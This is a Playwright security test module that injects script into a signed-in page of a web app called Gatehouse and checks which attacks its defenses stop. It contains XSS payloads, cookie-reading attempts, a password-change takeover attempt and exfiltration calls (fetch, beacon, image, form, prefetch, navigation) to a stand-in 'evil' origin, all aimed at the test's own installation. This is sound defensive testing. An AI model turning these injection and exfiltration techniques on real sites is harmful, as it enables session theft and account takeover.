import type { Browser } from '@playwright/test';
import { change } from '#e2e/support/rows';
import { withoutStreams } from '#e2e/support/session-stream';
import { newNetwork } from '#e2e/support/test';
import type { Installation } from './installation.ts';
import { startSecondOrigin } from './second-origin.ts';
import { gatehouse } from './sites.ts';

/** What a script can and cannot do that runs in a page of ours in spite of everything. */
export type InjectedRow = {
  tried: string;
  observed: string;
  because: string;
  isAsExpected: boolean;
};

const row = (
  tried: string,
  isAsExpected: boolean,
  observed: string,
  because: string,
): InjectedRow => ({
  tried,
  observed: isAsExpected ? observed : `NOT as expected: ${observed}`,
  because,
  isAsExpected,
});

/** Lets a script act inside a signed-in page of Gatehouse, past the policy that would have stopped it. */
export async function runInjectedScript(
  installation: Installation,
  browser: Browser,
): Promise<InjectedRow[]> {
  const site = await gatehouse(installation);
  const evil = await startSecondOrigin();
  const context = await browser.newContext({
    extraHTTPHeaders: { 'X-Forwarded-For': newNetwork() },
  });
  await withoutStreams(context);
  const page = await site.signIn(context);
  const rows: InjectedRow[] = [];

  const ran = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.isInside = true';
    const box = document.createElement('div');
    box.innerHTML = '<img src="data:," onerror="window.isInside = true">';
    document.body.append(box);
    document.body.insertAdjacentHTML('beforeend', '<script>window.isInside = true</script>');
    await new Promise((done) => setTimeout(done, 200));
    return 'isInside' in window;
  });
  rows.push(row('be put into the page as markup', !ran, 'does not run', 'script-src with a nonce'));

  const cookie = await page.evaluate(() => document.cookie);
  rows.push(row('read the session', cookie === '', 'document.cookie is empty', 'httpOnly'));

  const home = await page.evaluate(() => fetch('/dashboard').then((one) => one.text()));
  rows.push(
    row(
      'read what its victim could read',
      /Hello, /.test(home),
      'can, while the page is open',
      'nothing: it acts as the person; this is why the first line matters',
    ),
  );

  await page.evaluate(async (url) => {
    await fetch(`${url}fetch`, { mode: 'no-cors' }).catch(() => undefined);
    navigator.sendBeacon(`${url}beacon`, 'x');
    new Image().src = `${url}image`;
    document.body.insertAdjacentHTML(
      'beforeend',
      `<form id="out" method="post" action="${url}form"></form>`,
    );
    (document.getElementById('out') as HTMLFormElement).submit();
    await new Promise((done) => setTimeout(done, 500));
  }, evil.url);
  rows.push(
    row(
      'send what it has read to another site in the background (fetch, beacon, image, form)',
      evil.heard.length === 0,
      'nothing arrives',
      'connect-src, img-src, form-action',
    ),
  );

  change(installation.server, 'update sessions set proven_at = 0');
  const asked = await page.evaluate(() =>
    fetch('/settings/data').then(({ url }) => new URL(url).pathname),
  );
  rows.push(
    row(
      'take the account: download all data, change the address, delete it',
      asked === '/confirm',
      'is asked for the password',
      'proof again, ten minutes after the last',
    ),
  );

  const hash = () =>
    installation.rows(
      'select secret from credentials where user_id = (select id from users where email = ?)',
      site.email,
    );
  const stored = JSON.stringify(hash());
  const status = await page.evaluate(async () => {
    const text = await fetch('/settings/password').then((one) => one.text());
    const found = new DOMParser().parseFromString(text, 'text/html').querySelector('main form');
    const form = new FormData(found as HTMLFormElement);
    form.set('current', 'what the script guesses');
    form.set('password', 'chosen by the attacker 2218 oboe');
    return fetch('/settings/password', { method: 'POST', body: form }).then((one) => one.status);
  });
  rows.push(
    row(
      'set another password',
      status === 422 && JSON.stringify(hash()) === stored,
      'is refused without the one there is',
      'the current password',
    ),
  );

  const before = await context.cookies(site.url);
  change(installation.server, 'delete from sessions');
  const after = await page.evaluate(() =>
    fetch('/dashboard').then(({ url }) => new URL(url).pathname),
  );
  rows.push(
    row(
      'go on after the session was ended elsewhere',
      after === '/sign-in' && before.length > 0,
      'is sent to sign in, at the next request',
      'the session row',
    ),
  );

  await page.evaluate((url) => {
    const link = document.createElement('link');
    Object.assign(link, { rel: 'prefetch', href: `${url}hint?with=everything` });
    document.head.append(link);
  }, evil.url);
  await page.waitForLoadState('networkidle');
  await page.evaluate((url) => {
    location.href = `${url}gone?with=everything`;
  }, evil.url);
  await page.waitForURL(`${evil.url}**`);
  rows.push(
    row(
      'lead the whole page away, or have the next one fetched in advance, with what it has read in the address',
      ['hint', 'gone'].every((way) => evil.heard.includes(`/${way}?with=everything`)),
      'can: no policy of browsers stops it',
      'nothing; what it takes along holds no session',
    ),
  );
  await context.close();
  evil.close();
  return rows;
}
